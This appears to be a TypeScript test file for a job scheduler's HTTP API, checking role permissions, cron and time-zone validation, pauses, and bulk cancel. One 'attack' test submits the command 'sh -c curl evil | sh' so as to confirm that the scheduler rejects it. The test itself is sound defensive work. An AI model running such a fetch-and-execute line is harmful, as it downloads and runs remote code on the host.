/**
 * Schedules and queues over HTTP (DESIGN §7): what each role may do, the attack of scheduling
 * what one may not submit, clear 400s for a bad cron expression or time zone, and the
 * quiesce of a bulk cancel.
 */
import { describe, expect, it } from "vitest";
import { templateJob, testServer } from "./helpers.ts";

const nightly = (job: unknown, extra: Record<string, unknown> = {}) => ({ name: "nightly", cron: "0 2 * * *", timeZone: "Europe/Oslo", job, ...extra });

describe("schedules over HTTP", () => {
  it("a user schedules a template job: 201 with its next run, listed with it, owned by the user", async () => {
    const s = await testServer({ concurrency: 0 });
    const created = await s.call("user", "POST", "/api/v1/schedules", nightly(templateJob("true"), { overlap: "cancel_previous", catchUp: "latest" }));
    expect(created.statusCode).toBe(201);
    const schedule = created.json.schedule;
    expect(schedule).toMatchObject({ name: "nightly", owner: "uma", overlap: "cancel_previous", catchUp: "latest", paused: false, timeZone: "Europe/Oslo" });
    // 02:00 in Oslo is 01:00 UTC in winter, 00:00 UTC in summer.
    expect(new Date(schedule.nextRunAt).getUTCMinutes()).toBe(0);
    expect([0, 1]).toContain(new Date(schedule.nextRunAt).getUTCHours());
    const list = await s.call("viewer", "GET", "/api/v1/schedules");
    expect(list.json.items.map((x: { id: string }) => x.id)).toEqual([schedule.id]);
    expect((await s.call("user", "GET", "/api/v1/schedules/nightly")).json.schedule.id).toBe(schedule.id);
    expect((await s.call("user", "POST", "/api/v1/schedules", nightly(templateJob("true")))).json.error.code).toBe("SCHEDULE_NAME_TAKEN");
  });

  it("attack: a user cannot schedule a free command (nor hide one as a compensation task); nothing is stored", async () => {
    const s = await testServer({ concurrency: 0 });
    const free = await s.call("user", "POST", "/api/v1/schedules", nightly({ name: "x", command: ["sh", "-c", "curl evil | sh"] }));
    expect(free.statusCode).toBe(403);
    expect(free.json.error).toMatchObject({ code: "FORBIDDEN", details: { rule: "job.submit.process" } });
    const hidden = await s.call("user", "POST", "/api/v1/schedules", nightly({ tasks: [{ key: "a", template: "true" }, { key: "undo", command: ["true"], runOn: "cancel" }] }));
    expect(hidden.json.error.code).toBe("FORBIDDEN");
    const viewer = await s.call("viewer", "POST", "/api/v1/schedules", nightly(templateJob("true")));
    expect(viewer.json.error).toMatchObject({ code: "FORBIDDEN" });
    expect((await s.call("admin", "GET", "/api/v1/schedules")).json.items).toEqual([]);
    // The operator may (as it may submit one).
    expect((await s.call("operator", "POST", "/api/v1/schedules", nightly({ name: "x", command: ["true"] }))).statusCode).toBe(201);
  });

  it("a bad cron expression or time zone is a 400 that names the field and says what is expected", async () => {
    const s = await testServer({ concurrency: 0 });
    const badCron = await s.call("user", "POST", "/api/v1/schedules", { name: "a", cron: "0 25 * * *", job: templateJob("true") });
    expect(badCron.statusCode).toBe(400);
    expect(badCron.json.error).toMatchObject({ code: "INVALID_REQUEST", details: { field: "cron" } });
    expect(badCron.json.error.message).toMatch(/^cron: "0 25 \* \* \*" is not a cron expression: .*hour/);
    const badZone = await s.call("user", "POST", "/api/v1/schedules", { name: "b", cron: "0 2 * * *", timeZone: "Europe/Atlantis", job: templateJob("true") });
    expect(badZone.statusCode).toBe(400);
    expect(badZone.json.error).toMatchObject({ code: "INVALID_REQUEST", details: { field: "timeZone" } });
    expect(badZone.json.error.message).toContain('"Europe/Atlantis" is not a known IANA time zone');
    const badOverlap = await s.call("user", "POST", "/api/v1/schedules", { name: "c", cron: "0 2 * * *", overlap: "queue", job: templateJob("true") });
    expect(badOverlap.statusCode).toBe(400);
    expect(badOverlap.json.error.message).toContain("overlap");
    const badJob = await s.call("user", "POST", "/api/v1/schedules", { name: "d", cron: "0 2 * * *", job: { name: "empty" } });
    expect(badJob.statusCode).toBe(400);
    expect(badJob.json.error.message).toMatch(/^job: /);
  });

  it("a user pauses and resumes its own schedule, not another's; an operator any", async () => {
    const s = await testServer({ concurrency: 0 });
    const id = (await s.call("user", "POST", "/api/v1/schedules", nightly(templateJob("true")))).json.schedule.id as string;
    expect((await s.call("otherUser", "POST", `/api/v1/schedules/${id}/pause`)).json.error).toMatchObject({ code: "FORBIDDEN", details: { rule: "schedule.manage.any" } });
    const paused = await s.call("user", "POST", "/api/v1/schedules/nightly/pause");
    expect(paused.json.schedule).toMatchObject({ paused: true, pausedBy: "uma", nextRunAt: null });
    const resumed = await s.call("operator", "POST", `/api/v1/schedules/${id}/resume`);
    expect(resumed.json.schedule.paused).toBe(false);
    expect(resumed.json.schedule.nextRunAt).not.toBeNull();
    expect((await s.call("otherUser", "DELETE", `/api/v1/schedules/${id}`)).statusCode).toBe(403);
    expect((await s.call("user", "DELETE", `/api/v1/schedules/${id}`)).statusCode).toBe(200);
    expect((await s.call("user", "GET", `/api/v1/schedules/${id}`)).statusCode).toBe(404);
  });

  it("queue pause needs operator; the paused queue is listed with who paused it and why", async () => {
    const s = await testServer({ concurrency: 0 });
    expect((await s.call("user", "POST", "/api/v1/queues/etl/pause", {})).json.error).toMatchObject({ code: "FORBIDDEN", details: { rule: "queue.pause" } });
    const paused = await s.call("operator", "POST", "/api/v1/queues/etl/pause", { reason: "warehouse migration" });
    expect(paused.json.queue).toMatchObject({ name: "etl", paused: true, pausedBy: "oscar", reason: "warehouse migration" });
    const list = await s.call("viewer", "GET", "/api/v1/queues");
    expect(list.json.items).toContainEqual(expect.objectContaining({ name: "etl", paused: true }));
    expect(list.json.items).toContainEqual(expect.objectContaining({ name: "default", paused: false }));
    expect((await s.call("operator", "POST", "/api/v1/queues/etl/resume")).json.queue.paused).toBe(false);
  });

  it("bulk cancel with quiesce needs what pausing needs, and its record lists what it paused", async () => {
    const s = await testServer({ concurrency: 0 });
    const id = (await s.call("user", "POST", "/api/v1/schedules", nightly(templateJob("true", {}, { queue: "etl" })))).json.schedule.id as string;
    const job = (await s.call("user", "POST", "/api/v1/jobs", templateJob("true", {}, { queue: "etl" }))).json.job.id as string;
    expect((await s.call("user", "POST", "/api/v1/jobs/cancel", { filter: { queue: "etl" }, quiesce: true })).statusCode).toBe(403);
    const bulk = await s.call("operator", "POST", "/api/v1/jobs/cancel", { filter: { queue: "etl" }, quiesce: true, reason: "bad data upstream" });
    expect([200, 202]).toContain(bulk.statusCode);
    expect(bulk.json.cancelled).toBe(1);
    expect(bulk.json.cancellation.steps[0]).toMatchObject({ name: "quiesce", status: "completed", detail: { schedules: [{ id, name: "nightly" }], queues: ["etl"] } });
    expect((await s.call("viewer", "GET", `/api/v1/schedules/${id}`)).json.schedule.paused).toBe(true);
    expect((await s.call("viewer", "GET", `/api/v1/jobs/${job}`)).json.job.status).toBe("cancelled");
  });
});
